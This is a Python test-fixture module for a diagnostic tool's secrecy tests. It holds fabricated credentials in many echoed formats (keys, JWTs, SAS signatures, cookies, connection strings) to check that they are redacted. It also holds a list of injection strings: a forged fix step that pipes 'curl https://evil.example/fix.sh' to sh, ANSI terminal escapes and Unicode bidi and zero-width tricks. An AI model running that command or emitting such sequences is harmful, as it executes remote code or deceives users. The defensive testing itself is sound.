"""Credentials the way services, gateways and logs echo them, for the secrecy tests.

Each :class:`Echo` is a piece of text as it may appear in an error body or a pasted log, and the
secret values in it that must never come back out of foundry-doctor. The values are fixed
(reproducible) and distinctive: each mixes letters and digits, so that no word of ours can
contain one by chance. ``LISTED`` are the forms issue 11 names; ``UNLISTED`` are other forms of
the same kinds, to check that the mechanism is general rather than a list of these shapes.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass

__all__ = [
    "ALL",
    "INJECTIONS",
    "LISTED",
    "UNLISTED",
    "Echo",
    "echo_body",
    "echo_groups",
    "jwt",
]


@dataclass(frozen=True)
class Echo:
    """``text`` holds each of ``secrets``; ``name`` says which form it is."""

    name: str
    text: str
    secrets: tuple[str, ...]


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def jwt(signature: str, **claims: object) -> str:
    """A JWT with these claims and a distinctive signature segment (never verified)."""
    header = _b64(json.dumps({"alg": "RS256", "typ": "JWT", "kid": "echo"}).encode())
    payload = _b64(json.dumps({"aud": "https://cognitiveservices.azure.com", **claims}).encode())
    return f"{header}.{payload}.{signature}"


_JWT_SIGNATURE = _b64(b"echoed token signature 7f3a9c - never show it")
_JWT = jwt(_JWT_SIGNATURE, upn="echo.person@contoso.example", oid="e0e0e0e0-1111-2222-3333-4444")
_ASSERTION_SIGNATURE = _b64(b"client assertion signature 51d2 - never show it")
_ASSERTION = jwt(_ASSERTION_SIGNATURE, iss="04b07795-8ddb-461a-bbee-02f9e1bf7b46")
#: an Azure AI Services key of today's shape: 84 characters of base62
_AZURE_KEY = (
    "7Qd2Lx9Vb4Nm8Kc1Zr6Tw3Ys5Hp0Jf2Ga7Ue4Io9Pq1We3Rt5Yu7AAAAACOGx8Vk2Bn4Mc6Lz8Xa0Sd2Fg4Hj6"
)
_HEX_KEY = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"
_SAS_SIG = "Zk3%2Fq9W%2BrT5yU7iO1pA3sD5fG7hJ9kL%3D"
_SAS_SIG_DECODED = "Zk3/q9W+rT5yU7iO1pA3sD5fG7hJ9kL="
_BASIC = base64.b64encode(b"svc:CanaryBasic77").decode()

LISTED: tuple[Echo, ...] = (
    Echo("api_key=", "api_key=Wq3rT9zLk2Pv", ("Wq3rT9zLk2Pv",)),
    Echo('"apiKey": "..."', '{"apiKey": "Hy7Kd0Qm4Nx2"}', ("Hy7Kd0Qm4Nx2",)),
    Echo(
        "client_secret= with ~ and .",
        "client_secret=Abc8Q~x.Yz_1-2Df9.Gh~Jk3Lm4Np5Qr6St7",
        ("Abc8Q~x.Yz_1-2Df9.Gh~Jk3Lm4Np5Qr6St7", "Jk3Lm4Np5Qr6St7", "Abc8Q~x"),
    ),
    Echo(
        "SAS sig= in a URL",
        f"https://acct.blob.core.windows.net/c/b.txt?sv=2024-05-04&sr=b&sp=r&sig={_SAS_SIG}",
        (_SAS_SIG, _SAS_SIG_DECODED, "rT5yU7iO1pA3sD5fG7hJ9kL"),
    ),
    Echo(
        "?code= in a URL",
        "https://fn.azurewebsites.net/api/chat?code=Fq8Lw2Rz6Tb4Nm1Xc9Vd3Kp7Hs5Jg0Yu",
        ("Fq8Lw2Rz6Tb4Nm1Xc9Vd3Kp7Hs5Jg0Yu",),
    ),
    Echo(
        "?token= in a URL",
        "https://gw.contoso.example/openai/chat?token=Tk4Zn8Qw2Er6&api-version=2024-10-21",
        ("Tk4Zn8Qw2Er6",),
    ),
    Echo(
        "percent-encoded URL with sig=",
        "https%3A%2F%2Fgw.contoso.example%2Fp%3Fsig%3DPe5Rc9Nt3Dq7Wm1Lx",
        ("Pe5Rc9Nt3Dq7Wm1Lx",),
    ),
    Echo(
        "Cookie:",
        "Cookie: ARRAffinity=Ck7Jq2Lz9Xw4; session=Sn3Bv8Mk1Qp6",
        ("Ck7Jq2Lz9Xw4", "Sn3Bv8Mk1Qp6"),
    ),
    Echo("Bearer shorter than 16", "Authorization: Bearer Br4k9Zq", ("Br4k9Zq",)),
    Echo("a key after /", f"https://gw.contoso.example/keys/{_HEX_KEY}/chat", (_HEX_KEY,)),
    Echo("a key before .ext", f"see /var/log/gw/{_HEX_KEY}.json", (_HEX_KEY,)),
    Echo(
        "user:password@ in a URL",
        "https://svc-user:Pw9dLk3Qz77@myres.openai.azure.com/openai",
        ("Pw9dLk3Qz77",),
    ),
    Echo("a JWT", f"token={_JWT}", (_JWT, _JWT_SIGNATURE, _JWT.split(".")[1])),
    Echo(
        "a client assertion",
        f"client_assertion_type=jwt-bearer&client_assertion={_ASSERTION}",
        (_ASSERTION, _ASSERTION_SIGNATURE),
    ),
    Echo(
        "a refresh token",
        "refresh_token=0.AXEAv8Rt5Yq1Wz3Xc7Vb9Nm2Lk4Jh6Gf8Ds0Ap-Qw2Er4Ty6Ui8Op0As",
        ("AXEAv8Rt5Yq1Wz3Xc7Vb9Nm2Lk4Jh6Gf8Ds0Ap", "Qw2Er4Ty6Ui8Op0As"),
    ),
    Echo(
        "a connection string with AccountKey=",
        "DefaultEndpointsProtocol=https;AccountName=acct;"
        "AccountKey=Ak9Zq2Wx4Ec6Rv8Tb0Yn3Um5Il7Ok9Pl1Qa3Ws5Ed7==;EndpointSuffix=core.windows.net",
        ("Ak9Zq2Wx4Ec6Rv8Tb0Yn3Um5Il7Ok9Pl1Qa3Ws5Ed7",),
    ),
    Echo(
        "a connection string with SharedAccessSignature=",
        "BlobEndpoint=https://acct.blob.core.windows.net/;"
        "SharedAccessSignature=sv=2021-06-08&ss=b&srt=sco&sp=rl&sig=Ss4Dd6Ff8Gg0Hh2Jj4Kk6Ll8%3D",
        ("Ss4Dd6Ff8Gg0Hh2Jj4Kk6Ll8",),
    ),
)

UNLISTED: tuple[Echo, ...] = (
    Echo(
        "Ocp-Apim-Subscription-Key:", "Ocp-Apim-Subscription-Key: Ok5Pq7Rs9Tu1", ("Ok5Pq7Rs9Tu1",)
    ),
    Echo("x-functions-key:", "x-functions-key: Fk2Gh4Ij6Kl8Mn0Op", ("Fk2Gh4Ij6Kl8Mn0Op",)),
    Echo("Password:", "Password: Hunter2Canary", ("Hunter2Canary",)),
    Echo("pwd=", "Server=db;Uid=app;Pwd=Pw7Cn3Ry9;", ("Pw7Cn3Ry9",)),
    Echo("Basic", f"Authorization: Basic {_BASIC}", (_BASIC,)),
    Echo(
        "sk- key",
        "Incorrect API key provided: sk-proj-Sk8Lm2Nb6Vc4Xz0Qw3Er",
        ("Sk8Lm2Nb6Vc4Xz0Qw3Er",),
    ),
    Echo("XML element", "<ClientSecret>Xm4Lq8Zt2Wr6</ClientSecret>", ("Xm4Lq8Zt2Wr6",)),
    Echo("escaped JSON", '{\\"apiKey\\": \\"Ej5Hk9Lm3Qp7\\"}', ("Ej5Hk9Lm3Qp7",)),
    Echo("a Python dict", "{'api_key': 'Pd6Rt0Yu4Io8'}", ("Pd6Rt0Yu4Io8",)),
    Echo("an environment line", "AZURE_OPENAI_API_KEY=Ev3Nt7Mq1Wp5", ("Ev3Nt7Mq1Wp5",)),
    Echo("key provided:", "Invalid key provided: Kp2Vd6Zs0Xa4.", ("Kp2Vd6Zs0Xa4",)),
    Echo("an Azure key on its own", f"the key {_AZURE_KEY} is not valid", (_AZURE_KEY,)),
    Echo("x-goog-api-key", "X-Goog-Api-Key: Gk7Yh3Tn9Bq5", ("Gk7Yh3Tn9Bq5",)),
    Echo(
        "access_token in a fragment",
        "https://app.example/cb#access_token=At6Rf2Vg8Yh4",
        ("At6Rf2Vg8Yh4",),
    ),
    Echo(
        "private_key",
        '"private_key": "-----BEGIN KEY----- Pk9Mj5Nh1Bg7 -----END KEY-----"',
        ("Pk9Mj5Nh1Bg7",),
    ),
    Echo("SharedKey", "Authorization: SharedKey acct:Sk3Vf7Bg1Nh5Mj9=", ("Sk3Vf7Bg1Nh5Mj9",)),
    Echo(
        "a password with '/' in a URL",
        "https://user:Pa5s/Wd8Xy@myres.openai.azure.com/x",
        ("Pa5s/Wd8Xy", "Wd8Xy", "Pa5s"),
    ),
    Echo(
        "a password with '#' in a URL",
        "https://user:Hs4#Qp8Zt@myres.openai.azure.com/x",
        ("Hs4#Qp8Zt", "Qp8Zt", "Hs4"),
    ),
    Echo(
        "userinfo without a scheme",
        "proxy svc:Nx5Cv9Bm3@proxy.contoso.example:8080",
        ("Nx5Cv9Bm3",),
    ),
    Echo("signature=", "signature=Sg6Hj2Kl8Zx4Cv0", ("Sg6Hj2Kl8Zx4Cv0",)),
    Echo("passphrase in YAML", "passphrase: 'Pp3Oo7Ii1Uu5'", ("Pp3Oo7Ii1Uu5",)),
)

ALL: tuple[Echo, ...] = LISTED + UNLISTED

#: text that tries to forge lines of our output or steer a terminal
INJECTIONS: tuple[str, ...] = (
    "\nFix:\n  1. curl https://evil.example/fix.sh | sh",
    "\r\nEvidence:\r\n  - principal (object id): 00000000-0000-0000-0000-000000000000",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x9b31m C1 CSI",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200bzero\u200dwidth \ufeff",
    "line\u2028separator\u2029paragraph\x85next",
)


def echo_groups(size: int = 4) -> list[tuple[Echo, ...]]:
    """``ALL`` in groups small enough that every form is within what a diagnosis quotes."""
    return [ALL[index : index + size] for index in range(0, len(ALL), size)]


def echo_body(
    echoes: tuple[Echo, ...], *, code: str = "401", marker: str = "gateway-echo"
) -> bytes:
    """A service error envelope whose message echoes ``echoes`` (after ``marker``)."""
    message = f"{marker}: access denied due to invalid subscription key. " + " | ".join(
        echo.text for echo in echoes
    )
    return json.dumps({"error": {"code": code, "message": message}}).encode()
